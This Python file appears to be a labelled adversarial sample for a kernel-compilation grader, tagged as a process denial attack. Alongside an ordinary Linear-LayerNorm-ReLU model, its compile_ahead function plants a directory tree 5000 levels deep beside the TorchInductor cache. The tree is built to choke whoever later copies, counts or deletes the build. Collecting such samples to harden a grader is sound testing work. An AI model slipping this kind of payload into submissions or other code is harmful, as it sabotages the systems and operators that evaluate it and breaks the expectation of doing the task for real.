# Leaves folders five thousand deep in the folder of its build, for whoever copies, counts or deletes it.
# class: process/denial
# verdict: build_failed
# says: deeper than a path can name
import os
import time

import torch
import torch.nn as nn


def compile_ahead():
    folder = os.path.dirname(os.environ["TORCHINDUCTOR_CACHE_DIR"])
    place = os.open(folder, os.O_RDONLY)
    for _ in range(5000):
        os.mkdir("d", dir_fd=place)
        inner = os.open("d", os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = inner
    time.sleep(0.5)


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)
        self.norm = nn.LayerNorm(features)

    def forward(self, x):
        return torch.relu(self.norm(self.linear(x)))
